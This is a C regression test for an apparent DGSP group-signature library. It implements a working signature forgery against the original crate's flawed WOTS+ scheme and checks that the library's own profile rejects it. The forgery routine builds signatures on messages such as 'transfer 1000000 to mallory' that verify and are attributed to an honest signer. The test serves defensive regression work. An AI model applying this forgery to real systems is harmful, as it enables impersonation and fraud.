/* SPDX-License-Identifier: MIT OR Apache-2.0 */
/*
 * Forgery regression (spec dgsp.md 0.1). From one signature made by the original crate
 * (../shared/vectors/dgsp, profile dgsp-rs-0.1) and public data only, build a signature on a
 * different message: the crate's WOTS+ publishes its single chain start in the checksum
 * chunks, and every step uses the same address. Compat verification accepts the forgery, open
 * attributes it to the honest member and judge confirms. The same procedure, and the honest
 * "advance every chain" attempt, against grove-profile signatures (../shared/vectors/dgsp-grove)
 * are rejected.
 */
#include <dirent.h>
#include <jansson.h>
#include <stdlib.h>
#include <string.h>

#include "dgsp/dgsp_int.h"
#include "sphincs/spx.h"
#include "test.h"

static void adrs(hs_adrs *a, uint32_t chain, uint32_t hash)
{
    hs_adrs_init(a, HS_ADRS_SPHINCS);
    hs_adrs_set_layer(a, DGSP_LAYER);
    hs_adrs_set_type(a, SPX_ADRS_WOTS_HASH);
    hs_adrs_set_chain(a, chain);
    hs_adrs_set_hash(a, hash);
}

static int is_shake(const grove_dgsp_cfg *cfg)
{
    return strstr(grove_slhdsa_params_name(cfg->spx), "shake") != NULL;
}

/* The crate-bug forgery: every chunk = F_A0^{d'}(s), s = the last chunk. */
static void forge_compat(const grove_dgsp_cfg *cfg, const uint8_t *sig, const uint8_t *msg,
                         size_t mlen, uint8_t *forged, size_t siglen)
{
    const size_t n = cfg->n, len = 2 * n + 3;
    const uint8_t *wots_rand = sig + len * n;
    spx_ctx c;
    spx_ctx_init(&c, (unsigned)n, !is_shake(cfg), 0, wots_rand, NULL);
    uint8_t s[32], d[32];
    memcpy(forged, sig, siglen);
    memcpy(s, sig + (len - 1) * n, n);
    dgsp_hash_msg(cfg, d, wots_rand, msg, mlen);
    hs_adrs a0;
    adrs(&a0, 0, 0);
    for (size_t i = 0; i < 2 * n; i++) {
        unsigned digit = (i & 1) ? (d[i / 2] & 15u) : (unsigned)(d[i / 2] >> 4);
        uint8_t *chunk = forged + i * n;
        memcpy(chunk, s, n);
        for (unsigned j = 0; j < digit; j++)
            spx_thash(&c, chunk, &a0, chunk, 1);
    }
}

/* The honest attempt: advance each chain from its own chunk where the new digit is larger. */
static void forge_advance(const grove_dgsp_cfg *cfg, const uint8_t *sig, const uint8_t *msg_old,
                          size_t old_len, const uint8_t *msg, size_t mlen, uint8_t *forged,
                          size_t siglen)
{
    const size_t n = cfg->n, len = 2 * n + 3;
    const uint8_t *wots_rand = sig + len * n;
    spx_ctx c;
    spx_ctx_init(&c, (unsigned)n, !is_shake(cfg), 0, wots_rand, NULL);
    uint8_t d0[32], d1[32], dig0[67], dig1[67];
    dgsp_hash_msg(cfg, d0, wots_rand, msg_old, old_len);
    dgsp_hash_msg(cfg, d1, wots_rand, msg, mlen);
    hs_wots_digits(&c.wots, d0, dig0);
    hs_wots_digits(&c.wots, d1, dig1);
    memcpy(forged, sig, siglen);
    for (size_t i = 0; i < len; i++) {
        uint8_t *chunk = forged + i * n;
        for (unsigned j = dig0[i]; j < dig1[i]; j++) {
            hs_adrs a;
            adrs(&a, (uint32_t)i, j);
            spx_thash(&c, chunk, &a, chunk, 1);
        }
    }
}

static int run_file(const char *path, int *forged_ok, int *rejected)
{
    json_error_t err;
    json_t *root = json_load_file(path, 0, &err);
    if (root == NULL)
        return 0;
    const char *prof = json_string_value(json_object_get(root, "profile"));
    const char *set = json_string_value(json_object_get(root, "param_set"));
    grove_dgsp_cfg cfg;
    grove_dgsp_profile profile;
    if (!prof || !set || grove_dgsp_profile_from_name(&profile, prof) != GROVE_OK ||
        grove_dgsp_cfg_init(&cfg, grove_dgsp_params_get(set), GROVE_DGSP_FLAVOUR_R31, profile) !=
            GROVE_OK) {
        json_decref(root);
        return 0;
    }
    int compat = cfg.profile == GROVE_DGSP_PROFILE_DGSP_RS_0_1;
    const size_t n = cfg.n, siglen = grove_dgsp_sig_bytes(&cfg);
    uint8_t pk[64], sk[192];
    json_t *mgr = json_object_get(root, "manager");
    CHECK(test_unhex_into(pk, 2 * n, json_string_value(json_object_get(mgr, "pk"))));
    CHECK(test_unhex_into(sk, 6 * n, json_string_value(json_object_get(mgr, "sk"))));
    grove_dgsp_store *store;
    CHECK_EQ_INT(grove_dgsp_store_memory_open(&store), GROVE_OK);
    /* the manager's member list (for open): join users in id order */
    json_t *users = json_object_get(root, "users");
    for (size_t id = 0; id < json_array_size(users); id++) {
        for (size_t k = 0; k < json_array_size(users); k++) {
            json_t *u = json_array_get(users, k);
            if ((size_t)json_integer_value(json_object_get(u, "id")) == id) {
                uint64_t got;
                uint8_t cs[32];
                CHECK_EQ_INT(grove_dgsp_join(&cfg, store, &got, cs,
                                             json_string_value(json_object_get(u, "username")), sk),
                             GROVE_OK);
            }
        }
    }
    size_t i;
    json_t *s;
    json_array_foreach(json_object_get(root, "signatures"), i, s)
    {
        size_t sl, ml;
        uint8_t *sig = test_unhex(json_string_value(json_object_get(s, "signature")), &sl);
        uint8_t *msg = test_unhex(json_string_value(json_object_get(s, "message")), &ml);
        uint64_t signer = (uint64_t)json_integer_value(json_object_get(s, "signer_id"));
        CHECK_EQ_INT(sl, siglen);
        uint8_t *forged = malloc(siglen);
        const char *targets[] = {"transfer 1000000 to mallory", "", "I resign"};
        for (int t = 0; t < 3; t++) {
            const uint8_t *m2 = (const uint8_t *)targets[t];
            size_t m2l = strlen(targets[t]);
            if (m2l == ml && memcmp(m2, msg, ml) == 0)
                continue;
            forge_compat(&cfg, sig, m2, m2l, forged, siglen);
            int st = grove_dgsp_verify(&cfg, forged, siglen, m2, m2l, pk, store);
            if (compat) {
                /* the crate's WOTS+ is forgeable: accepted, opened and judged to the signer */
                uint64_t id = UINT64_MAX;
                uint8_t pi[32];
                CHECK_EQ_INT(st, GROVE_OK);
                CHECK_EQ_INT(grove_dgsp_open(&cfg, store, &id, NULL, pi, forged, siglen, m2, m2l,
                                             sk),
                             GROVE_OK);
                CHECK(id == signer);
                CHECK_EQ_INT(grove_dgsp_judge(&cfg, forged, siglen, m2, m2l, id, pi), GROVE_OK);
                *forged_ok += st == GROVE_OK;
            } else {
                CHECK_EQ_INT(st, GROVE_ERR_VERIFY);
                forge_advance(&cfg, sig, msg, ml, m2, m2l, forged, siglen);
                CHECK_EQ_INT(grove_dgsp_verify(&cfg, forged, siglen, m2, m2l, pk, store),
                             GROVE_ERR_VERIFY);
                *rejected += st == GROVE_ERR_VERIFY;
            }
        }
        free(forged);
        free(sig);
        free(msg);
    }
    grove_dgsp_store_close(store);
    json_decref(root);
    return 1;
}

static int run_dir(const char *dir, int *forged_ok, int *rejected)
{
    DIR *d = opendir(dir);
    struct dirent *de;
    int files = 0;
    while (d && (de = readdir(d)) != NULL) {
        size_t l = strlen(de->d_name);
        if (l < 5 || strcmp(de->d_name + l - 5, ".json") != 0)
            continue;
        char path[8192];
        snprintf(path, sizeof path, "%s/%s", dir, de->d_name);
        files += run_file(path, forged_ok, rejected);
    }
    if (d)
        closedir(d);
    return files;
}

int main(void)
{
    char compat_dir[4096], grove_dir[4096];
    snprintf(compat_dir, sizeof compat_dir, "%s", test_vectors_dir("dgsp"));
    snprintf(grove_dir, sizeof grove_dir, "%s", test_vectors_dir("dgsp-grove"));
    int forged = 0, rejected = 0;
    int f1 = run_dir(compat_dir, &forged, &rejected);
    int f2 = run_dir(grove_dir, &forged, &rejected);
    printf("%d compat files: %d forgeries accepted by the crate's WOTS+ (as expected);\n"
           "%d grove files: %d forgery attempts rejected\n",
           f1, forged, f2, rejected);
    CHECK(f1 > 0 && f2 > 0 && forged > 0 && rejected > 0);
    return test_done();
}
